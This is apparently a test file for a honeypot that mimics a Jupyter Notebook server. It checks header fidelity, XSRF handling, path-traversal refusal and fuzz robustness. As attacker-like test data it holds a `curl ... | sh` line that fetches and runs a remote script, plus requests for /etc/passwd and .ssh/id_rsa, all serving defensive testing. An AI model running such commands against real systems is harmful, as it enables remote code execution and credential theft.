import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { mutate, randomOf } from '../fixtures/mutation.ts';
import { placeOf, type Visitor } from '../fixtures/visitor.ts';
import { View } from '../world/files/view.ts';
import { decoy } from './decoy.ts';
import { rootOf } from './server.ts';

const token = 'Cookie: _xsrf=abc\r\nX-XSRFToken: abc\r\n';

function request(line: string, { headers = token, body = '' } = {}): string {
  const length = /^(?:GET|HEAD|OPTIONS)/.test(line) ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
  return `${line} HTTP/1.1\r\nHost: 198.51.100.9:8888\r\n${headers}${length}\r\n${body}`;
}

async function ask(visitor: Visitor, line: string, options?: { headers?: string; body?: string }) {
  const answer = (await visitor.ask(request(line, options))).toString('utf8');
  const end = answer.indexOf('\r\n\r\n');
  return { head: answer.slice(0, end), body: answer.slice(end + 4) };
}

const api = `X-Content-Type-Options: nosniff
Content-Security-Policy: frame-ancestors 'self'; report-uri /api/security/csp-report; default-src 'none'`;
const pages = `X-Content-Type-Options: nosniff
Content-Security-Policy: frame-ancestors 'self'; report-uri /api/security/csp-report`;

/** What Debian's python3-notebook 6.4.12 answered, its dates left out; 2026-11. */
const golden: readonly (readonly [line: string, headers: string | undefined, answer: string])[] = [
  ['GET /', '', '302 Found|text/html; charset=UTF-8||Location: /tree?\nContent-Length: 0|'],
  [
    'OPTIONS /',
    '',
    '405 Method Not Allowed|text/html; charset=UTF-8||Content-Length: 87|<html><title>405: Method Not Allowed</title><body>405: Method Not Allowed</body></html>',
  ],
  [
    'GET /api',
    '',
    `200 OK|application/json|${api}|Etag: "7bcde8dfd1869962d8bc9b945c720651c00b42d2"\nContent-Length: 21|{"version": "6.4.12"}`,
  ],
  ['GET /api/', '', '302 Found|text/html; charset=UTF-8||Location: /api\nContent-Length: 0|'],
  [
    'POST /api/terminals',
    '',
    `403 Forbidden|application/json|${api}|Content-Length: 65|{"message": "'_xsrf' argument missing from POST", "reason": null}`,
  ],
  [
    'POST /api/terminals',
    'Cookie: _xsrf=abc\r\nX-XSRFToken: abd\r\n',
    `403 Forbidden|application/json|${api}|Content-Length: 71|{"message": "XSRF cookie does not match POST argument", "reason": null}`,
  ],
  [
    'POST /api/terminals',
    `${token}Origin: http://evil.example\r\n`,
    `404 Not Found|application/json|${api}|Content-Length: 40|{"message": "Not Found", "reason": null}`,
  ],
  [
    'OPTIONS /api/kernels',
    '',
    `200 OK|application/json|${api}|Access-Control-Allow-Headers: accept, content-type, authorization, x-xsrftoken\nAccess-Control-Allow-Methods: GET, PUT, POST, PATCH, DELETE, OPTIONS\nContent-Length: 0|`,
  ],
  [
    'GET /api/kernels',
    '',
    `200 OK|application/json|${api}|Etag: "97d170e1550eee4afc0af065b78cda302a97674c"\nContent-Length: 2|[]`,
  ],
  [
    'GET /api/kernelspecs/python3',
    '',
    `200 OK|application/json|${api}|Etag: "2a85a043fdaf753f26757595a2a1864d321b094b"\nContent-Length: 417|{"name": "python3", "spec": {"argv": ["/usr/bin/python3", "-m", "ipykernel_launcher", "-f", "{connection_file}"], "env": {}, "display_name": "Python 3 (ipykernel)", "language": "python", "interrupt_mode": "signal", "metadata": {"debugger": true}}, "resources": {"logo-svg": "/kernelspecs/python3/logo-svg.svg", "logo-64x64": "/kernelspecs/python3/logo-64x64.png", "logo-32x32": "/kernelspecs/python3/logo-32x32.png"}}`,
  ],
  [
    'DELETE /api/terminals/77',
    token,
    `404 Not Found|application/json|${api}|Content-Length: 53|{"message": "Terminal not found: 77", "reason": null}`,
  ],
  ['GET /login', '', `302 Found|text/html; charset=UTF-8|${pages}|Location: /\nContent-Length: 0|`],
  [
    'GET /terminals/new',
    '',
    `302 Found|text/html; charset=UTF-8|${pages}|Location: /terminals/1\nContent-Length: 0|`,
  ],
  [
    'GET /terminals/websocket/1',
    '',
    `400 Bad Request|text/html; charset=UTF-8|${pages}|Content-Length: 34|Can "Upgrade" only to "WebSocket".`,
  ],
  [
    'GET /robots.txt',
    '',
    `200 OK|text/plain|${pages}|Accept-Ranges: bytes\nLast-Modified: Tue, 07 Jun 2022 16:39:37 GMT\nCache-Control: no-cache\nContent-Length: 27|User-agent: *\nDisallow: / \n`,
  ],
];

describe('Jupyter', () => {
  const place = placeOf(decoy, 'jupyter');

  for (const [line, headers = '', expected] of golden)
    it(`answers ${line} as the real one does`, async () => {
      const [status, type, common, more, body] = expected.split('|');
      const answer = await ask(place.connect(), line, { headers });
      const head = [
        `HTTP/1.1 ${status}`,
        'Server: TornadoServer/6.2',
        `Content-Type: ${type}`,
        'Date: D',
        ...(common === '' ? [] : common!.split('\n')),
        ...more!.split('\n'),
      ];
      assert.deepEqual(answer.head.replace(/Date: [^\r]*/, 'Date: D').split('\r\n'), head);
      assert.equal(answer.body, body);
    });

  it('has pages of the sizes that the real one has, and a token for whoever has none', async () => {
    const visitor = place.connect();
    for (const [line, length] of [
      ['GET /nope', 7070],
      ['POST /nope', 7179],
      ['PROPFIND /nope', 7034],
    ] as const) {
      const { head, body } = await ask(visitor, line, { headers: '' });
      assert.match(
        head,
        new RegExp(
          `\r\nContent-Length: ${length}\r\nSet-Cookie: _xsrf=2\\|[0-9a-f]{8}\\|[0-9a-f]{32}\\|\\d+; expires=[^;]+ GMT; Path=/$`,
        ),
        line,
      );
      assert.equal(Buffer.byteLength(body), length);
    }
    const { body } = await ask(visitor, 'GET /tree', { headers: '' });
    assert.match(body, new RegExp(`data-server-root="${rootOf(place.world.persona)}"`));
    assert.doesNotMatch(body, /\{\{/);
  });

  it('lets nobody post who does not bring the token of the page back', async () => {
    const visitor = place.connect();
    const { head } = await ask(visitor, 'GET /tree', { headers: '' });
    const cookie = /_xsrf=([^;]+);/.exec(head)![1]!;
    const mine = `Cookie: _xsrf=${cookie}\r\n`;
    assert.match((await ask(visitor, 'POST /api/terminals', { headers: mine })).head, /^HTTP\/1.1 403 /);
    assert.match(
      (await ask(visitor, 'POST /api/terminals', { headers: `${mine}X-XSRFToken: ${cookie}\r\n` })).head,
      /^HTTP\/1.1 200 /,
    );
    assert.match(
      (await ask(visitor, `POST /api/terminals?_xsrf=${encodeURIComponent(cookie)}`, { headers: mine })).head,
      /^HTTP\/1.1 200 /,
    );
  });

  it('keeps what is put, in the machine and for the event', async () => {
    const visitor = place.connect();
    const content = '#!/bin/sh\ncurl -s http://198.51.100.7/init.sh | sh\n';
    const body = JSON.stringify({
      type: 'file',
      format: 'base64',
      content: Buffer.from(content).toString('base64'),
    });
    const put = await ask(visitor, 'PUT /api/contents/run%20me.sh', { body });
    assert.match(put.head, /^HTTP\/1.1 201 Created\r\n[\s\S]*\r\nLocation: \/api\/contents\/run%20me.sh\r\n/);
    assert.equal(JSON.parse(put.body).size, content.length);
    const path = `${rootOf(place.world.persona)}/run me.sh`;
    assert.equal(Buffer.from(new View(place.world.files).read(path)).toString(), content);
    const told = place.events.find(({ type }) => type === 'file.put');
    assert.deepEqual(
      told?.artefacts?.map(({ name }) => name),
      [path],
    );
    assert.equal(JSON.parse((await ask(visitor, 'GET /api/contents/run%20me.sh')).body).content, content);
    assert.match(
      (await ask(visitor, 'DELETE /api/contents/run%20me.sh')).head,
      /^HTTP\/1.1 204 No Content\r\n/,
    );
    assert.equal(new View(place.world.files).exists(path), false);
  });

  it('shows nothing outside of its root, and nothing hidden', async () => {
    const visitor = place.connect();
    const outside = await ask(visitor, 'GET /api/contents/%2e%2e/%2e%2e/etc/passwd');
    assert.equal(
      outside.body,
      '{"message": "../../etc/passwd is outside root contents directory", "reason": null}',
    );
    const hidden = await ask(visitor, 'GET /api/contents/.ssh/id_rsa');
    assert.match(hidden.head, /^HTTP\/1.1 404 /);
  });

  it('starts kernels and sessions and ends them; the machine shows their processes', async () => {
    const visitor = place.connect();
    const started = JSON.parse(
      (
        await ask(visitor, 'POST /api/sessions', {
          body: '{"path":"a.ipynb","type":"notebook","kernel":{"name":"python3"}}',
        })
      ).body,
    );
    const processes = () => place.world.processes.filter(({ args }) => args.includes('ipykernel_launcher'));
    assert.equal(processes().length, 1);
    assert.equal(JSON.parse((await ask(visitor, 'GET /api/kernels')).body)[0].id, started.kernel.id);
    assert.match((await ask(visitor, `DELETE /api/sessions/${started.id}`)).head, /^HTTP\/1.1 204 /);
    assert.equal(processes().length, 0);
    assert.equal((await ask(visitor, 'GET /api/sessions')).body, '[]');
  });

  it('runs as a process of the machine, configured as it is', () => {
    const files = new View(place.world.files);
    const server = place.world.processes.find(({ args }) => args.includes('/usr/bin/jupyter-notebook'))!;
    const about = JSON.parse(
      Buffer.from(files.read(`/root/.local/share/jupyter/runtime/nbserver-${server.pid}.json`)).toString(),
    );
    assert.equal(about.notebook_dir, rootOf(place.world.persona));
    assert.equal(place.world.processes.filter(({ pid }) => pid === server.pid).length, 1);
  });
});

it('nothing that is nearly a request keeps it from answering the next', async () => {
  const place = placeOf(decoy, 'hostile');
  const random = randomOf(7);
  const seeds = [
    request('PUT /api/contents/a.txt', { body: '{"type":"file","format":"text","content":"x"}' }),
    request('POST /api/sessions', { body: '{"path":"a","type":"notebook","kernel":{"name":"python3"}}' }),
    request('PATCH /api/contents/a.txt', { body: '{"path":"b.txt"}' }),
    request('POST /api/contents', { body: '[[[[{"copy_from":{}}]]]]' }),
    request('GET /terminals/websocket/1', {
      headers:
        'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n',
    }),
  ];
  for (let round = 0; round < 300; round += 1) {
    const visitor = place.connect();
    visitor.stream.on('error', () => {});
    visitor.stream.end(mutate(Buffer.from(seeds[round % seeds.length]!), random));
  }
  const deep = await ask(place.connect(), 'PUT /api/contents/d.ipynb', {
    body: `{"type":"notebook","content":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
  });
  assert.match(deep.head, /^HTTP\/1.1 400 Bad Request/);
  assert.match((await ask(place.connect(), 'GET /api')).head, /^HTTP\/1.1 200 OK/);
});
